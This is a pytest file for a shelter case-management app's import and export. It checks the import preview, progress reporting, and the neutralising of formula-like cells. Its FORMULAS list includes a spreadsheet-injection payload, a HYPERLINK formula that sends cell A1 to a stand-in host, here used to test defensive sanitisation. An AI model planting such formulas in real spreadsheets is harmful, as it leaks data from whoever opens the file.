"""The preview says exactly what an import will create, record by record; a formula in a
cell goes in as its text and leaves in an export as inert text; the reading and the
checking report how far they are."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook

from shelter_desk.services import cases
from shelter_desk.services.importing.created import (
    CreatedCounts,
    counts_line,
    created_counts,
    created_records,
)
from shelter_desk.services.importing.service import preview_import, run_import
from shelter_desk.services.list_export import export_case_list
from shelter_desk.store.case_queries import CaseFilter
from tests.importing import registers
from tests.importing.test_registers import people

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"clic")', "+1", "@SUM(A1)", "-2+3"]


def test_the_preview_lists_every_record_it_will_create(created, tmp_path):
    # GIVEN the shelter's Excel register (6 rows, 5 documents, a note on 5: children or remarks)
    plan = preview_import(created.vault, registers.intake_xlsx(tmp_path / "ingresos.xlsx"))

    # WHEN she looks at what will be created
    counts = created_counts(plan)
    records = created_records(plan)

    # THEN the counts are those run_import writes, said in both languages
    assert counts == CreatedCounts(people=6, cases=6, documents=5, notes=5)
    line = counts_line(counts)
    assert line.es == "Se crearán: 6 personas, 6 expedientes, 5 documentos, 5 notas."
    assert line.en == "To be created: 6 people, 6 case files, 5 documents, 5 notes."
    # ... and each record by its row number, with its document and its note
    first = records[0]
    assert first.row == registers.FIRST_DATA_ROW
    assert first.line.es == ("Caso nuevo: Zuleima Prueba Ficticia, 1 documento "
                             "(Forma Migratoria Múltiple (FMM)), nota")
    assert first.line.en.startswith("New case: Zuleima Prueba Ficticia, 1 document (")
    assert records[-1].line.es == "Caso nuevo: Fátima Modelo Inventada, nota"
    assert [r.row for r in records] == list(range(6, 12))

    outcome = run_import(created.vault, plan)
    assert (outcome.cases, outcome.documents) == (counts.cases, counts.documents)


def test_formulas_in_cells_go_in_as_text_and_leave_as_inert_text(created, tmp_path):
    # GIVEN a CSV whose names and remarks start like formulas
    vault = created.vault
    sheet = tmp_path / "lista.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["Nombre", "Apellidos", "Fecha de nacimiento", "Nacionalidad",
                         "Observaciones"])
        writer.writerows([f, "Prueba", f"01/0{n + 1}/1990", "Honduras", f]
                         for n, f in enumerate(FORMULAS))

    # WHEN she imports it
    plan = preview_import(vault, sheet)
    assert plan.problems == ()
    run_import(vault, plan)

    # THEN each is stored as the text typed, never computed
    found = people(vault)
    assert set(found) == set(FORMULAS)
    assert all(found[f][4] == f"Observaciones: {f}" for f in FORMULAS)

    # WHEN the list is exported and read back, THEN every such cell is inert text
    export_case_list(vault, CaseFilter(), "csv", tmp_path / "salida.csv")
    exported = list(csv.reader(io.StringIO((tmp_path / "salida.csv").read_text("utf-8-sig"))))
    names = {row[1] for row in exported[1:]}
    assert names == {f"'{f} Prueba" for f in FORMULAS}
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in exported for cell in row)
    assert cases.count_cases(vault) == len(FORMULAS)


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_reading_and_checking_report_their_progress(created, tmp_path, kind):
    table = [["Nombre", "Apellidos"], *([f"P{n}", "Prueba"] for n in range(3000))]
    sheet = tmp_path / f"lista.{kind}"
    if kind == "csv":
        sheet.write_text("".join(f"{a},{b}\n" for a, b in table), encoding="utf-8")
    else:
        workbook = Workbook(write_only=True)
        rows = workbook.create_sheet()
        for row in table:
            rows.append(row)
        workbook.save(sheet)
    seen: list[tuple[int, int]] = []
    plan = preview_import(created.vault, sheet, progress=lambda d, t: seen.append((d, t)))
    assert len(plan.rows) == 3000
    done = [d for d, _t in seen]
    assert all(t == 100 for _d, t in seen) and done == sorted(done)
    assert 0 < done[0] < 60 and 60 in done and done[-1] == 100
    assert len(set(d for d in done if d < 60)) > 2  # reading moves, not only checking
